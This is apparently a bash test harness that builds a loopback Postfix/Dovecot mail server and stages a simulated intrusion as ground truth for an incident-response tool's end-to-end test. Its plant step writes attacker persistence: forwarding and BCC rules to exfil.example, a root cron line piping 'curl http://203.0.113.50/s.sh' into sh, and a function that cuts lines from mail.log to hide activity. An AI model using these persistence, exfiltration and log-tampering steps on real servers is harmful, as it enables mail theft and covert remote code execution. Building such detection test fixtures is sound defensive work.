#!/usr/bin/env bash
# A real Postfix + Dovecot host under a real attack, on loopback, for the end-to-end test
# (tests/live_mail.rs; docs/live-test.md).
#
#   tests/live/scenario.sh up OUT     install, configure, start, attack, plant, cut, rotate
#   tests/live/scenario.sh down OUT   stop what `up` started, restore what it changed
#
# Needs root on a Debian-like machine with apt. Everything `up` changes is written to
# OUT/changes.txt as it happens and undone by `down` (pass or fail): configuration files are
# backed up under OUT/state and put back, files and users it created are removed, daemons it
# started are stopped. Packages it installed stay installed and are listed. Mail cannot leave:
# Postfix listens on 127.0.0.1 only and every non-local domain goes to the `discard`
# transport. The attack (tests/live/attack.py) writes its ground truth to OUT/truth.json.
#
# Local mail is delivered the way Debian documents it for Dovecot, in two phases: first
# Postfix local(8) hands each mailbox to `dovecot-lda` (mailbox_command) with the Sieve plugin;
# after the cut slice, `scenario.sh lmtp OUT` (called by attack.py) switches Postfix to
# Dovecot's LMTP server (mailbox_transport = lmtp:unix:private/dovecot-lmtp, Sieve too) and
# reloads. Aliases and ~/.forward stay with local(8) in both phases. Users kate, liam and nora
# only receive mail (bursts of it); kate and liam have Sieve scripts (fileinto, vacation).
# Dovecot also serves POP3 and logs mailbox changes with its mail_log plugin: the attack
# steals carol's mail over IMAP and POP3 and deletes some of it (attack.py, "theft").
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
cmd=${1:?up or down}
OUT=$(mkdir -p "${2:?output folder}" && cd "$2" && pwd)
STATE="$OUT/state"
CHANGES="$OUT/changes.txt"
PACKAGES=(postfix dovecot-core dovecot-imapd dovecot-pop3d dovecot-lmtpd dovecot-sieve swaks rsyslog)
# RECEIVERS only receive mail (bursts from an outside list server and correspondents); the
# attack never touches them (attack.py's RECEIVERS).
RECEIVERS=(kate liam nora)
# paul reads his mail from his office and, late in the run, from a new phone (attack.py's
# hard negative for the mailbox theft).
USERS=(alice bob carol dave erin frank grace paul "${RECEIVERS[@]}")
LDA='/usr/lib/dovecot/dovecot-lda -f "$SENDER" -a "$RECIPIENT"'
DOMAIN=lab.example

note() { echo "$*" >> "$CHANGES"; }
log() { echo "live: $*" >&2; }

# Backs up a path (or records that it was absent) once, so `down` can restore it. The index
# STATE/index has one line per path: its number and the path.
keep() {
  local p=$1 n
  mkdir -p "$STATE"
  touch "$STATE/index"
  grep -qxF "$p" <(cut -f2- "$STATE/index") && return 0
  n=$(wc -l < "$STATE/index")
  printf '%s\t%s\n' "$n" "$p" >> "$STATE/index"
  if [ -e "$p" ]; then
    tar -C / -cpf "$STATE/$n.tar" "${p#/}"
    note "changed: $p (backed up; restored by down)"
  else
    note "created: $p (removed by down)"
  fi
}

restore_all() {
  local n p
  [ -e "$STATE/index" ] || return 0
  while IFS=$'\t' read -r n p; do
    rm -rf "$p"
    if [ -e "$STATE/$n.tar" ]; then tar -C / -xpf "$STATE/$n.tar"; fi
  done < "$STATE/index"
}

up() {
  : > "$CHANGES"
  mkdir -p "$STATE"
  # 1. Packages (idempotent, non-interactive). Installed ones stay; they are listed.
  local missing=() home p u
  # Installed means "install ok installed": a removed package whose configuration stayed is
  # known to dpkg but has no programs.
  for p in "${PACKAGES[@]}"; do
    [ "$(dpkg-query -W -f '${Status}' "$p" 2>/dev/null)" = "install ok installed" ] || missing+=("$p")
  done
  if [ ${#missing[@]} -gt 0 ]; then
    log "installing ${missing[*]}"
    export DEBIAN_FRONTEND=noninteractive
    apt-get install -y -q "${missing[@]}" >/dev/null 2>&1 \
      || { apt-get update -q >/dev/null && apt-get install -y -q "${missing[@]}" >/dev/null; }
    note "installed packages (left installed): ${missing[*]}"
  fi
  { echo "postfix $(postconf -d -h mail_version)"; echo "dovecot $(dovecot --version)";
    echo "pigeonhole (dovecot-sieve) $(dpkg-query -W -f '${Version}' dovecot-sieve)";
    echo "dovecot-lmtpd $(dpkg-query -W -f '${Version}' dovecot-lmtpd)";
    echo "dovecot-pop3d $(dpkg-query -W -f '${Version}' dovecot-pop3d)";
    echo "rsyslog $(rsyslogd -v | head -1)"; echo "swaks $(dpkg-query -W -f '${Version}' swaks)";
  } > "$OUT/versions.txt"

  # 2. Stop anything of ours already running (a previous run that died), then configure.
  postfix stop >/dev/null 2>&1 || true
  doveadm stop >/dev/null 2>&1 || true
  for p in /etc/postfix/main.cf /etc/postfix/master.cf /etc/postfix/virtual /etc/postfix/virtual.db \
           /etc/postfix/recipient_bcc /etc/postfix/recipient_bcc.db /etc/postfix/transport \
           /etc/postfix/transport.db /etc/aliases /etc/aliases.db /etc/mailname /etc/dovecot \
           /etc/cron.d/mailir-live-sync /var/log/mail.log /var/log/mail.log.1 /var/log/syslog \
           /var/log/auth.log /var/log/user.log /var/log/kern.log /var/log/cron.log; do
    keep "$p"
  done
  for u in "${USERS[@]}"; do
    if ! id "$u" >/dev/null 2>&1; then
      useradd -m -s /bin/bash "$u"
      note "created user: $u (removed by down, with /home/$u and /var/mail/$u)"
      echo "$u" >> "$STATE/users"
    else
      # An account that was there before: what Dovecot leaves in its home (IMAP indexes and
      # folders under ~/mail, the compiled Sieve script, the duplicate database of vacation
      # replies) is removed by down. The homes of the users created here go with them.
      home=$(getent passwd "$u" | cut -d: -f6)
      for p in "$home/mail" "$home/.dovecot.svbin" "$home/.dovecot.lda-dupes" \
               "$home/.dovecot.lda-dupes.lock"; do
        keep "$p"
      done
    fi
    # dovecot-lda runs as the user and cannot create a file in /var/mail (root:mail 2775;
    # Postfix's local(8) could, as root): the spool file is made beforehand, owned by the user.
    if [ ! -e "/var/mail/$u" ]; then
      keep "/var/mail/$u"
      install -m 660 -o "$u" -g mail /dev/null "/var/mail/$u"
    fi
  done
  # The receivers' Sieve scripts, as ManageSieve or a webmail leaves them: the script under
  # ~/sieve and ~/.dovecot.sieve a link to the active one. kate files a mailing list into its
  # folder; liam is back from a holiday and his vacation auto-reply is still on; nora has none.
  sieve_script kate lists 'require ["fileinto", "mailbox"];
if header :contains "List-Id" "news.newsletter.example" {
  fileinto :create "Lists";
}'
  sieve_script liam holiday 'require ["vacation"];
vacation :days 7 :subject "Away until Monday"
  "I am on holiday until Monday and will answer your message when I am back.";'
  echo "$DOMAIN" > /etc/mailname
  : > /etc/postfix/main.cf
  postconf -e \
    "myhostname = mx.$DOMAIN" "mydomain = $DOMAIN" 'myorigin = $mydomain' \
    'mydestination = $myhostname, $mydomain, localhost' \
    'inet_interfaces = 127.0.0.1' 'inet_protocols = ipv4' 'mynetworks = 127.0.0.1/32' \
    'alias_maps = hash:/etc/aliases' 'alias_database = hash:/etc/aliases' \
    'smtpd_banner = $myhostname ESMTP' 'biff = no' 'compatibility_level = 3.6' \
    'smtpd_sasl_type = dovecot' 'smtpd_sasl_path = private/auth' 'smtpd_sasl_auth_enable = yes' \
    'smtpd_relay_restrictions = permit_mynetworks, permit_sasl_authenticated, reject_unauth_destination' \
    'default_transport = discard:outside mail is discarded in this test' \
    'relay_transport = discard:outside mail is discarded in this test' \
    'smtp_tls_security_level = none' 'smtpd_tls_security_level = none' 'smtpd_peername_lookup = no' \
    'maillog_file =' 'mail_owner = postfix' 'setgid_group = postdrop' \
    'queue_directory = /var/spool/postfix' 'command_directory = /usr/sbin' \
    'daemon_directory = /usr/lib/postfix/sbin' 'data_directory = /var/lib/postfix' \
    "mailbox_command = $LDA"
  postconf -M "submission/inet=submission inet n - n - - smtpd"
  postconf -P "submission/inet/syslog_name=postfix/submission" \
              "submission/inet/smtpd_relay_restrictions=permit_sasl_authenticated,reject"
  postconf -F '*/*/chroot = n'
  grep -q '^postmaster:' /etc/aliases 2>/dev/null || echo 'postmaster: root' >> /etc/aliases
  newaliases

  rm -rf /etc/dovecot && mkdir -p /etc/dovecot
  cat > /etc/dovecot/dovecot.conf <<EOF
# mailir live test: IMAP and POP3 on loopback, users from a password file, SASL for Postfix;
# local delivery by dovecot-lda (Postfix mailbox_command), later by LMTP, both with Sieve.
# The mail_log plugin logs deletions, expunges, copies and folder changes, as admins enable it
# (Debian's conf.d/10-logging.conf lines, with mailbox_create); the logout lines keep
# Dovecot's default formats (body_count/body_bytes, retr=N/BYTES).
protocols = imap lmtp pop3
listen = 127.0.0.1
ssl = no
disable_plaintext_auth = no
auth_mechanisms = plain login
auth_failure_delay = 0
mail_location = mbox:~/mail:INBOX=/var/mail/%u
mail_privileged_group = mail
# dovecot-lda runs as the recipient, who may not create dotlocks in /var/mail.
mbox_write_locks = fcntl
log_path = syslog
syslog_facility = mail
hostname = mx.$DOMAIN
postmaster_address = postmaster@$DOMAIN
mail_plugins = \$mail_plugins mail_log notify
plugin {
  mail_log_events = delete undelete expunge copy mailbox_delete mailbox_rename mailbox_create
  mail_log_fields = uid box msgid size
}
protocol lda {
  mail_plugins = \$mail_plugins sieve
}
protocol lmtp {
  mail_plugins = \$mail_plugins sieve
  # Postfix's local(8) hands LMTP the full address; the system users have no domain.
  auth_username_format = %Ln
}
plugin {
  sieve = file:~/sieve;active=~/.dovecot.sieve
}
service lmtp {
  unix_listener /var/spool/postfix/private/dovecot-lmtp {
    mode = 0600
    user = postfix
    group = postfix
  }
}
# dovecot-lda runs as the recipient and reports to the stats writer.
service stats {
  unix_listener stats-writer {
    mode = 0666
  }
}
passdb {
  driver = passwd-file
  args = scheme=PLAIN username_format=%n /etc/dovecot/users.passwd
}
userdb {
  driver = passwd
}
service auth {
  unix_listener /var/spool/postfix/private/auth {
    mode = 0660
    user = postfix
    group = postfix
  }
}
EOF
  : > /etc/dovecot/users.passwd
  for u in "${USERS[@]}"; do
    echo "$u:{PLAIN}$(python3 "$here/attack.py" --password "$u")::::::" >> /etc/dovecot/users.passwd
  done
  chmod 640 /etc/dovecot/users.passwd; chgrp dovecot /etc/dovecot/users.passwd

  # 3. Start syslog, Dovecot, Postfix (no systemd here: by hand).
  rm -f /var/log/mail.log /var/log/mail.log.1
  # Daemons get no inherited stdio: whoever runs this script waits for its output to end.
  # The system's rsyslogd (Debian's configuration, pid in /run/rsyslogd.pid) is the one that
  # writes /var/log/mail.log; another rsyslogd on the machine (with its own configuration and
  # pid file) is someone else's and is left alone. Signals go to that pid only.
  if ! syslog_pid >/dev/null; then
    rsyslogd </dev/null >/dev/null 2>&1
    for _ in $(seq 50); do syslog_pid >/dev/null && break; sleep 0.1; done
    note "started: rsyslogd (pid $(syslog_pid); stopped by down)"
    syslog_pid > "$STATE/rsyslogd"
  fi
  for _ in $(seq 50); do [ -S /dev/log ] && break; sleep 0.1; done
  dovecot </dev/null >/dev/null 2>&1
  note "started: dovecot (stopped by down)"
  postfix check
  postfix start </dev/null >/dev/null 2>&1
  note "started: postfix (stopped by down; its queue directories under /var/spool/postfix stay, emptied)"
  for _ in $(seq 50); do
    (exec 3<>/dev/tcp/127.0.0.1/25) 2>/dev/null && (exec 3<>/dev/tcp/127.0.0.1/587) 2>/dev/null \
      && (exec 3<>/dev/tcp/127.0.0.1/143) 2>/dev/null && (exec 3<>/dev/tcp/127.0.0.1/110) 2>/dev/null \
      && break
    sleep 0.2
  done

  # 4. The attack, the persistence, the cut and the rotation (attack.py drives it all, calling
  #    back into this script for the root-side steps).
  python3 "$here/attack.py" --out "$OUT" --scenario "$0"
  cp /var/log/mail.log /var/log/mail.log.1 "$OUT/" 2>/dev/null || true
}

# The pid of the running system rsyslogd (the one with /run/rsyslogd.pid); fails when none.
syslog_pid() {
  local pid
  pid=$(cat /run/rsyslogd.pid 2>/dev/null) || return 1
  [ -n "$pid" ] && [ "$(cat "/proc/$pid/comm" 2>/dev/null)" = rsyslogd ] || return 1
  echo "$pid"
}

# A receiver's Sieve script: ~USER/sieve/NAME.sieve holding TEXT, ~USER/.dovecot.sieve
# linking to it (the active script).
sieve_script() {
  local u=$1 name=$2 text=$3 home
  home=$(getent passwd "$u" | cut -d: -f6)
  keep "$home/sieve"
  keep "$home/.dovecot.sieve"
  rm -rf "$home/sieve" "$home/.dovecot.sieve"
  mkdir -p "$home/sieve"
  printf '%s\n' "$text" > "$home/sieve/$name.sieve"
  ln -s "sieve/$name.sieve" "$home/.dovecot.sieve"
  chown -R "$u:" "$home/sieve"
  chown -h "$u:" "$home/.dovecot.sieve"
}

# Root-side steps attack.py calls at its moments.

# The second delivery phase: Postfix hands mailboxes to Dovecot's LMTP server (Debian's
# Dovecot LMTP setup); local(8) still expands aliases and ~/.forward first.
lmtp() {
  postconf -X mailbox_command
  postconf -e 'mailbox_transport = lmtp:unix:private/dovecot-lmtp'
  postfix reload </dev/null >/dev/null 2>&1
}
plant() {
  # The intruder's persistence, the way one would leave it. Lines are 1-based.
  printf 'frank@%s frank, frank.copy@exfil.example\n' "$DOMAIN" > /etc/postfix/virtual
  printf 'grace@%s grace.archive@exfil.example\n' "$DOMAIN" > /etc/postfix/recipient_bcc
  printf 'partner.example smtp:[203.0.113.50]:25\n' > /etc/postfix/transport
  postmap /etc/postfix/virtual /etc/postfix/recipient_bcc /etc/postfix/transport
  postconf -e 'virtual_alias_maps = hash:/etc/postfix/virtual' \
              'recipient_bcc_maps = hash:/etc/postfix/recipient_bcc' \
              'transport_maps = hash:/etc/postfix/transport'
  keep /home/erin/.forward
  printf 'erin.private@exfil.example\n' > /home/erin/.forward
  chown erin: /home/erin/.forward
  mkdir -p /etc/cron.d
  printf 'SHELL=/bin/sh\n*/10 * * * * root curl -s http://203.0.113.50/s.sh | sh\n' > /etc/cron.d/mailir-live-sync
  postfix reload </dev/null >/dev/null 2>&1
  local mc; mc=$(grep -n '^virtual_alias_maps\|^recipient_bcc_maps\|^transport_maps' /etc/postfix/main.cf)
  cat <<EOF
[{"path": "/etc/postfix/virtual", "line": 1, "rule": "persistence.forward"},
 {"path": "/etc/postfix/recipient_bcc", "line": 1, "rule": "persistence.bcc"},
 {"path": "/etc/postfix/transport", "line": 1, "rule": "persistence.transport"},
 {"path": "/home/erin/.forward", "line": 1, "rule": "persistence.forward"},
 {"path": "/etc/cron.d/mailir-live-sync", "line": 2, "rule": "persistence.cron"}]
EOF
  echo "$mc" > "$OUT/main.cf.planted-lines"
}

# Removes the lines of mail.log whose time falls in [FROM, TO) (RFC 3339 prefixes, UTC) the
# way an intruder edits a log in place, then has rsyslog reopen it.
cut_slice() {
  local from=$1 to=$2
  python3 - "$from" "$to" <<'EOF'
import sys
lo, hi = sys.argv[1], sys.argv[2]
path = "/var/log/mail.log"
lines = open(path, "rb").read().split(b"\n")
keep = [l for l in lines if not (lo.encode() <= l[:19] < hi.encode())]
print(len(lines) - len(keep), file=sys.stderr)
open(path + ".new", "wb").write(b"\n".join(keep))
EOF
  mv /var/log/mail.log.new /var/log/mail.log
  chmod 640 /var/log/mail.log
  kill -HUP "$(syslog_pid)"
}

# logrotate's way: move the live file aside, have the daemon reopen a new one.
rotate() {
  mv /var/log/mail.log /var/log/mail.log.1
  kill -HUP "$(syslog_pid)"
}

down() {
  log "restoring the machine"
  postfix stop >/dev/null 2>&1 || true
  postsuper -d ALL >/dev/null 2>&1 || true
  doveadm stop >/dev/null 2>&1 \
    || { [ -s /run/dovecot/master.pid ] && kill "$(cat /run/dovecot/master.pid)" 2>/dev/null; } || true
  # Only the rsyslogd this script started, by its pid (read back from its pid file: a stale
  # state file must not name someone else's process).
  if [ -s "$STATE/rsyslogd" ] && [ "$(syslog_pid)" = "$(cat "$STATE/rsyslogd")" ]; then
    kill "$(cat "$STATE/rsyslogd")" 2>/dev/null || true
  fi
  sleep 0.5
  if [ -e "$STATE/users" ]; then
    while read -r u; do userdel -r "$u" >/dev/null 2>&1 || true; rm -f "/var/mail/$u"; done < "$STATE/users"
  fi
  restore_all
  note "down: restored"
}

case $cmd in
  up) up ;;
  down) down ;;
  plant) plant ;;
  cut) cut_slice "$3" "$4" ;;
  rotate) rotate ;;
  lmtp) lmtp ;;
  *) echo "unknown command $cmd" >&2; exit 2 ;;
esac
